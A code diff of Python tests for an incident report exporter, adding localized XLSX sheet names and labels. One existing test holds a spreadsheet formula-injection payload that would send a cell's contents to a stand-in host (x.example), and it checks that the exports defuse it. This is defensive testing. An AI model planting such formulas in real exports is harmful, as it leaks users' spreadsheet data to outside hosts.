@@ -31,7 +31,7 @@ from dashboard.store.memory import MemoryStore
 from feeds.events import Incident
 from layouts.console import detail as console_detail
 from layouts.pages.report import tables as report_tables
-from layouts.sections import IncidentRow, share_pct
+from layouts.sections import REPORT_UNASSIGNED, IncidentRow, share_pct
 from tests.support.operations import gauge
 from tests.support.trees import texts
 
@@ -491,7 +491,7 @@ def test_report_exports_keep_feed_text_as_text() -> None:
     frames = {"by_category": pd.DataFrame([{"category": '=HYPERLINK("http://x.example/?"&B2,"Banjir")', "incidents": 3}])}
     rows = list(csv.reader(io.StringIO(as_csv(frames))))
     assert rows[1:3] == [["category", "incidents"], ['\'=HYPERLINK("http://x.example/?"&B2,"Banjir")', "3"]]
-    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx(frames)))["by_category"]
+    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx(frames, "id")))["Per kategori"]
     assert (sheet["A2"].data_type, sheet["A2"].value, sheet["B2"].value) == (
         "s",
         '\'=HYPERLINK("http://x.example/?"&B2,"Banjir")',
@@ -523,7 +523,27 @@ def test_shift_report_medians_p90_and_sla(config: Config) -> None:
     assert (row["resolve_median_min"], row["resolve_within_sla_pct"]) == (30.0, 100.0)
     assert frames["by_agency"].to_dict(orient="records")[0]["agency"] == "Dishub"
     assert "# by_category" in as_csv(frames)
-    assert as_xlsx(frames)[:2] == b"PK"  # an XLSX is a zip
+    assert as_xlsx(frames, "id")[:2] == b"PK"  # an XLSX is a zip
+
+
+def test_the_reports_spreadsheet_says_what_its_page_says() -> None:
+    """The XLSX said ``naturalDisaster``, ``critical``, ``-`` and ``ack_median_min`` beside a page
+    that said "Bencana alam", "kritis", "belum ditugaskan" and its headers; the CSV keeps the
+    codes, for programs."""
+    frames = {
+        "by_severity": pd.DataFrame([{"severity": "critical", "incidents": 3, "ack_median_min": 4.5}]),
+        "by_category": pd.DataFrame([{"category": "naturalDisaster", "incidents": 2}]),
+        "by_agency": pd.DataFrame([{"agency": REPORT_UNASSIGNED, "incidents": 5}, {"agency": "BPBD", "incidents": 1}]),
+    }
+    book = openpyxl.load_workbook(io.BytesIO(as_xlsx(frames, "id")))
+    assert book.sheetnames == ["Per tingkat", "Per kategori", "Per instansi"]
+    rows = {name: [[cell.value for cell in row] for row in book[name].iter_rows()] for name in book.sheetnames}
+    assert rows["Per tingkat"][1] == ["kritis", 3, 4.5]
+    assert rows["Per tingkat"][0][:2] == ["tingkat", "kejadian"]
+    assert rows["Per kategori"] == [["kategori", "kejadian"], ["Bencana alam", 2]]
+    assert rows["Per instansi"][1:] == [["belum ditugaskan", 5], ["BPBD", 1]]
+    assert openpyxl.load_workbook(io.BytesIO(as_xlsx(frames, "en"))).sheetnames == ["By severity", "By category", "By agency"]
+    assert '"naturalDisaster",2' in as_csv(frames)
 
 
 def test_shift_report_by_severity_most_severe_first_each_against_its_own_sla(store: StateStore, config: Config) -> None:
